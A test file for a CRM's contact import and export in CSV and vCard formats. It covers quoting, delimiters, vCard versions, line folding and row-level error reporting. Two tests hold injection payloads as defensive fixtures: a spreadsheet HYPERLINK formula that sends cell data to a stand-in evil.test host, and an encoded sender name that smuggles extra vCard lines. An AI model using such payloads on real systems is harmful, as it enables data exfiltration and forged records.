// Contacts in and out of Rapport: CSV (delimiters, quotes, formulas written as text) and vCard
// (2.1 quoted-printable, 3.0/4.0, folding by UTF-8 octets), and what an import skips and why.
import { describe, expect, it } from 'vitest'
import { parseCsv, toCsv } from '../../src-main/core/crm/csv'
import { blankVCard, parseVCards, writeVCards } from '../../src-main/core/crm/vcard'
import { parseMessage } from '../../src-main/core/mail/message-parser'
import { addr, crmWorkspace } from './fixtures/crm-workspace'

describe('CSV and vCard', () => {
  it('brings back, in CSV and vCard, the contacts Rapport made from mail (IDN domains, first=last@)', () => {
    const ws = crmWorkspace()
    ws.receive({ from: addr('ana@müller.de', 'Ana') })
    ws.receive({ from: addr('first=last@client.test', 'First Last') })
    for (const format of ['csv', 'vcard'] as const) {
      const other = crmWorkspace()
      expect(other.crm.io.import(format, ws.crm.io.export(format), null)).toMatchObject({
        created: 2,
        skipped: 0
      })
      expect(other.crm.contacts.byEmail('ana@müller.de')).toMatchObject({ displayName: 'Ana' })
    }
  })

  it('parses quoted CSV fields with commas, quotes and line breaks, and writes them back', () => {
    const rows = [
      ['name', 'note'],
      ['Mendes, Carlos', 'said "hi"\nthen left'],
      ['=cmd', '']
    ]
    expect(parseCsv(toCsv(rows))).toEqual(rows)
  })

  it("writes formulas as text (a leading ') for spreadsheets, and reads them back as they were", () => {
    const values = ['=1+1', '+62811', '-5', '@SUM(A1)', '\tx', '\r=x', "'=quoted", "'plain", 'a=b']
    const written = toCsv([values])
    expect(written).toBe(`'=1+1,'+62811,'-5,'@SUM(A1),'\tx,"'\r=x",''=quoted,'plain,a=b\r\n`)
    expect(parseCsv(`x,${written}`)).toEqual([['x', ...values]])
    const ws = crmWorkspace()
    ws.crm.contacts.create(
      {
        displayName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
        company: '@SUM(1+1)',
        emails: ['x@y.test'],
        phones: ['+62 811']
      },
      null
    )
    const csv = ws.crm.io.export('csv')
    expect(csv.split('\r\n')[1]).toBe(
      `,,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",x@y.test,'+62811,'@SUM(1+1),,,,`
    )
    const other = crmWorkspace()
    other.crm.io.import('csv', csv, null)
    expect(other.crm.contacts.byEmail('x@y.test')).toMatchObject({
      displayName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
      company: '@SUM(1+1)',
      phones: ['+62811']
    })
  })

  it('reads a quote inside a field as a character, and refuses a file that ends inside quotes', () => {
    const ws = crmWorkspace()
    const csv =
      'first_name,company,emails\r\nAna,Acme 5" Displays,ana@x.test\r\nBudi,"B, Ltd",budi@x.test\r\n'
    expect(parseCsv(csv)).toEqual([
      ['first_name', 'company', 'emails'],
      ['Ana', 'Acme 5" Displays', 'ana@x.test'],
      ['Budi', 'B, Ltd', 'budi@x.test']
    ])
    expect(ws.crm.io.import('csv', csv, null)).toMatchObject({ created: 2 })
    expect(() =>
      ws.crm.io.import('csv', 'first_name,company\r\nCici,C\r\nDodi,"D, Ltd\r\nEka,E\r\n', null)
    ).toThrow(expect.objectContaining({ code: 'INVALID_INPUT', message: expect.stringMatching(/line 3/) }))
    expect(ws.crm.contacts.list({ limit: 10 })).toHaveLength(2)
  })

  it('reads the delimiter from the header line: semicolons (Excel in Europe) and tabs too', () => {
    const ws = crmWorkspace()
    const semicolons =
      '\uFEFFfirst_name;last_name;company;emails\r\nJosé;Núñez;"Núñez; Hijos, S.A.";jose@x.test\r\n'
    expect(ws.crm.io.import('csv', semicolons, null)).toMatchObject({ created: 1 })
    expect(ws.crm.contacts.byEmail('jose@x.test')).toMatchObject({
      firstName: 'José',
      lastName: 'Núñez',
      company: 'Núñez; Hijos, S.A.'
    })
    expect(parseCsv('first_name\temails\nSiti, the second\tsiti@x.test\n')).toEqual([
      ['first_name', 'emails'],
      ['Siti, the second', 'siti@x.test']
    ])
  })

  it('imports the address of “Name <address>”, and skips rows with an invalid email, saying why', () => {
    const ws = crmWorkspace()
    const csv = [
      'first_name,emails,company',
      'Carlos,Carlos Mendes <Carlos@Client.test>,Mendes Ltd',
      'Budi,not-an-email; budi@x.test,',
      ',,',
      'Siti,,',
      ',,Only a company'
    ].join('\r\n')
    expect(ws.crm.io.import('csv', csv, null)).toEqual({
      created: 2,
      updated: 0,
      skipped: 2,
      problems: ['Row 3: "not-an-email" is not an email address.', 'Row 6: no name, email or phone.']
    })
    expect(ws.crm.contacts.byEmail('carlos@client.test')).toMatchObject({ firstName: 'Carlos' })
    // Mail from that address finds the imported contact instead of making a second one.
    const { conversationId } = ws.receive({ from: addr('carlos@client.test', 'Carlos') })
    expect(ws.conversation(conversationId).contact_id).toBe(ws.crm.contacts.byEmail('carlos@client.test')!.id)
    expect(ws.crm.contacts.list({ limit: 10 })).toHaveLength(2)
    const card = 'BEGIN:VCARD\nVERSION:3.0\nFN:X\nEMAIL:x@\nEND:VCARD\n'
    expect(ws.crm.io.import('vcard', card, null).problems).toEqual(['Card 1: "x@" is not an email address.'])
  })

  it('round-trips contacts through CSV export and import, updating known emails instead of duplicating', () => {
    const ws = crmWorkspace()
    ws.crm.contacts.defineField({ key: 'seats', label: 'Seats', type: 'number' })
    ws.crm.contacts.create(
      {
        firstName: 'Dewi',
        lastName: 'L',
        emails: ['dewi@client.test'],
        phones: ['+62 811'],
        tags: ['vip'],
        customFields: { seats: 3 }
      },
      null
    )
    const csv = ws.crm.io.export('csv')
    expect(csv.split('\r\n')[0]).toBe(
      'first_name,last_name,display_name,emails,phones,company,country,language,owner,tags,custom:seats'
    )
    const other = crmWorkspace()
    other.crm.contacts.defineField({ key: 'seats', label: 'Seats', type: 'number' })
    expect(other.crm.io.import('csv', csv, null)).toEqual({
      created: 1,
      updated: 0,
      skipped: 0,
      problems: []
    })
    expect(other.crm.io.import('csv', csv, null)).toEqual({
      created: 0,
      updated: 1,
      skipped: 0,
      problems: []
    })
    expect(other.crm.contacts.byEmail('dewi@client.test')).toMatchObject({
      firstName: 'Dewi',
      phones: ['+62811'],
      tags: ['vip'],
      customFields: { seats: 3 }
    })
  })

  it('brings back tags holding the ; that separates them in a cell, commas, quotes and backslashes', () => {
    const tags = ['Jakarta; Bali', 'B2B, enterprise', 'said "yes"', 'C:\\temp\\', 'a\\;b', 'vip']
    const ws = crmWorkspace()
    ws.crm.contacts.create({ displayName: 'Dewi', emails: ['dewi@client.test'], tags }, null)
    const other = crmWorkspace()
    expect(other.crm.io.import('csv', ws.crm.io.export('csv'), null)).toMatchObject({
      created: 1,
      skipped: 0
    })
    const back = other.crm.contacts.byEmail('dewi@client.test')!
    expect([...back.tags].sort()).toEqual([...tags].sort())
  })

  it('reads a backslash not before ; or another backslash in a list cell as itself (a file made elsewhere)', () => {
    const ws = crmWorkspace()
    ws.crm.io.import('csv', 'emails,tags\r\nx@y.test,C:\\temp;a\\;b;c\\\\\r\n', null)
    expect([...ws.crm.contacts.byEmail('x@y.test')!.tags].sort()).toEqual(['C:\\temp', 'a;b', 'c\\'].sort())
  })

  it('reads vCard 3.0 and 4.0, with folded lines and escapes, and writes 4.0', () => {
    const v3 = [
      'BEGIN:VCARD',
      'VERSION:3.0',
      'FN:Carlos Mendes',
      'N:Mendes;Carlos;;;',
      'EMAIL;TYPE=INTERNET,WORK:carlos@client.test',
      'TEL;TYPE=CELL:+55 11 9999',
      'ORG:Mendes\\, Ltd;Sales',
      'ADR;TYPE=WORK:;;Rua 1;São Paulo;;;Brazil',
      'CATEGORIES:vip,latam',
      'NOTE:a long note that is folded over',
      '  two lines',
      'END:VCARD'
    ].join('\r\n')
    const [person] = parseVCards(v3)
    expect(person).toMatchObject({
      fullName: 'Carlos Mendes',
      firstName: 'Carlos',
      lastName: 'Mendes',
      emails: ['carlos@client.test'],
      phones: ['+55 11 9999'],
      company: 'Mendes, Ltd',
      country: 'Brazil',
      tags: ['vip', 'latam']
    })
    const written = writeVCards([{ ...person!, language: 'pt', extra: { tier: 'gold;plus' } }])
    expect(written).toContain('VERSION:4.0')
    expect(written).toContain('LANG:pt')
    expect(parseVCards(written)[0]).toMatchObject({
      company: 'Mendes, Ltd',
      language: 'pt',
      extra: { tier: 'gold;plus' }
    })
  })

  it('reads vCard 2.1 quoted-printable values, in their charset, over soft line breaks', () => {
    const v21 = [
      'BEGIN:VCARD',
      'VERSION:2.1',
      'N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:N=C3=BA=C3=B1ez;Jos=C3=A9;;;',
      'FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Jos=C3=A9 N=C3=BA=C3=B1ez =F0=9F=98=80 Garc=',
      '=C3=ADa',
      'ORG;CHARSET=ISO-8859-1;QUOTED-PRINTABLE:Caf=E9 M=FCller',
      'EMAIL;INTERNET:jose@x.test',
      'END:VCARD'
    ].join('\r\n')
    expect(parseVCards(v21)).toMatchObject([
      {
        fullName: 'José Núñez 😀 García',
        firstName: 'José',
        lastName: 'Núñez',
        company: 'Café Müller',
        emails: ['jose@x.test']
      }
    ])
  })

  it('folds long vCard lines at 75 octets between characters, never inside an emoji', () => {
    for (let n = 60; n < 80; n++) {
      const fullName = `${'a'.repeat(n)}😀é😀😀`
      const person = { ...blankVCard(), fullName }
      // As a file on disk: UTF-8, where a lone surrogate becomes U+FFFD.
      const file = Buffer.from(writeVCards([person]), 'utf8')
      const lines = file.toString('utf8').split('\r\n')
      expect(lines.filter((l) => Buffer.byteLength(l) > 75)).toEqual([])
      expect(parseVCards(file.toString('utf8'))[0]!.fullName).toBe(fullName)
    }
  })

  it('imports a vCard file into contacts and exports them again', () => {
    const ws = crmWorkspace()
    const card = 'BEGIN:VCARD\nVERSION:4.0\nFN:Siti\nN:;Siti;;;\nEMAIL:siti@client.test\nEND:VCARD\n'
    expect(ws.crm.io.import('vcard', card, null)).toEqual({
      created: 1,
      updated: 0,
      skipped: 0,
      problems: []
    })
    expect(ws.crm.io.export('vcard')).toContain('EMAIL:siti@client.test')
  })
})

describe('contact import and export', () => {
  it('refuses a custom field key a vCard could not bring back: language, or one differing only in case', () => {
    const ws = crmWorkspace()
    ws.crm.contacts.defineField({ key: 'callAt', label: 'Call at', type: 'time' })
    for (const key of ['language', 'Language', 'callat'])
      expect(() => ws.crm.contacts.defineField({ key, label: key, type: 'text' })).toThrow(
        expect.objectContaining({ code: 'INVALID_INPUT', field: 'key' })
      )
    // Renaming the label of the field itself is no clash.
    expect(ws.crm.contacts.defineField({ key: 'callAt', label: 'Call back at', type: 'time' })).toEqual([
      { key: 'callAt', label: 'Call back at', type: 'time' }
    ])
  })

  it('brings custom fields whose key has capitals back through CSV and vCard', () => {
    for (const format of ['csv', 'vcard'] as const) {
      const ws = crmWorkspace()
      ws.crm.contacts.defineField({ key: 'callAt', label: 'Call at', type: 'time' })
      ws.crm.contacts.create(
        { displayName: 'Dewi', emails: ['dewi@client.test'], customFields: { callAt: '09:30' } },
        null
      )
      const other = crmWorkspace()
      other.crm.contacts.defineField({ key: 'callAt', label: 'Call at', type: 'time' })
      other.crm.io.import(format, ws.crm.io.export(format), null)
      expect({ format, fields: other.crm.contacts.byEmail('dewi@client.test')!.customFields }).toEqual({
        format,
        fields: { callAt: '09:30' }
      })
    }
  })

  it.each([
    [
      'a bad custom field value',
      'emails,custom:seats\r\nana@a.test,3\r\nbudi@b.test,about ten\r\ncarla@c.test,5\r\n',
      1 // and Ana's contact updated
    ],
    [
      'addresses of two different contacts',
      'display_name,emails\r\nDewi,dewi@d.test\r\nAna,ana@a.test;ana@home.test\r\n',
      1
    ]
  ])('skips a CSV row with %s, naming the row, and imports the others', (_, csv, created) => {
    const ws = crmWorkspace()
    ws.crm.contacts.defineField({ key: 'seats', label: 'Seats', type: 'number' })
    ws.crm.contacts.create({ displayName: 'Ana', emails: ['ana@a.test'] }, null)
    ws.crm.contacts.create({ displayName: 'Ana home', emails: ['ana@home.test'] }, null)
    // Before, the refusal ended the whole import, naming no row.
    expect(ws.crm.io.import('csv', csv, null)).toMatchObject({
      created,
      skipped: 1,
      problems: [expect.stringMatching(/^Row 3: /)]
    })
  })
})

describe('a broken vCard file is not imported in part without a word', () => {
  it('says that a card never ended (a truncated file) instead of leaving it out silently', () => {
    const ws = crmWorkspace()
    const file =
      'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana\r\nEMAIL:ana@a.test\r\nEND:VCARD\r\n' +
      'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Budi\r\nEMAIL:budi@b.test\r\n'
    const result = ws.crm.io.import('vcard', file, null)
    expect(result.created).toBe(1)
    expect(result.problems).toEqual([expect.stringMatching(/^Card 2: /)])
  })

  it('says that a card lacks its END before the next one, and imports the next one', () => {
    const ws = crmWorkspace()
    const file =
      'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana\r\nEMAIL:ana@a.test\r\n' +
      'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Budi\r\nEMAIL:budi@b.test\r\nEND:VCARD\r\n'
    const result = ws.crm.io.import('vcard', file, null)
    expect(result).toMatchObject({ created: 1, skipped: 1, problems: [expect.stringMatching(/^Card 1: /)] })
    expect(ws.crm.contacts.byEmail('budi@b.test')).not.toBeNull()
  })

  it('says a file with no vCard in it has none, rather than importing nothing', () => {
    const ws = crmWorkspace()
    expect(() => ws.crm.io.import('vcard', 'first_name,emails\r\nAna,ana@x.test\r\n', null)).toThrow(
      expect.objectContaining({ code: 'INVALID_INPUT' })
    )
  })
})

describe('vCard 2.1 AGENT (a card inside a card)', () => {
  it('imports the outer person, not the assistant named in their AGENT property', () => {
    const ws = crmWorkspace()
    const file =
      'BEGIN:VCARD\r\nVERSION:2.1\r\nN:Mendes;Carlos\r\nAGENT:\r\nBEGIN:VCARD\r\nVERSION:2.1\r\nN:Assistant;Ana\r\n' +
      'EMAIL:ana@a.test\r\nEND:VCARD\r\nEMAIL:carlos@c.test\r\nORG:Acme\r\nEND:VCARD\r\n'
    ws.crm.io.import('vcard', file, null)
    expect(ws.crm.contacts.byEmail('carlos@c.test')).toMatchObject({ firstName: 'Carlos', company: 'Acme' })
    expect(ws.crm.contacts.byEmail('ana@a.test')).toBeNull()
  })
})

describe('a sender name with a carriage return in it', () => {
  it('cannot add lines (another card, another address) to the exported vCard', async () => {
    const ws = crmWorkspace()
    // =0D is a CR in the encoded word: the display name is "Bob\rEMAIL:ceo@victim.test\rORG:Evil".
    const raw = Buffer.from(
      'From: =?utf-8?q?Bob=0DEND=3AVCARD=0DBEGIN=3AVCARD=0DFN=3AInjected=0DEMAIL=3Aceo=40victim=2Etest?= <bob@evil.test>\r\n' +
        'To: me@rapport.test\r\nSubject: hi\r\nMessage-ID: <inj-1@test>\r\nDate: Mon, 05 Jan 2026 10:00:00 +0000\r\n\r\nHello\r\n'
    )
    const parsed = await parseMessage(raw)
    ws.storeOne(parsed)
    const exported = ws.crm.io.export('vcard')
    const other = crmWorkspace()
    const result = other.crm.io.import('vcard', exported, null)
    expect(result.created).toBe(1)
    expect(other.crm.contacts.byEmail('ceo@victim.test')).toBeNull()
  })
})
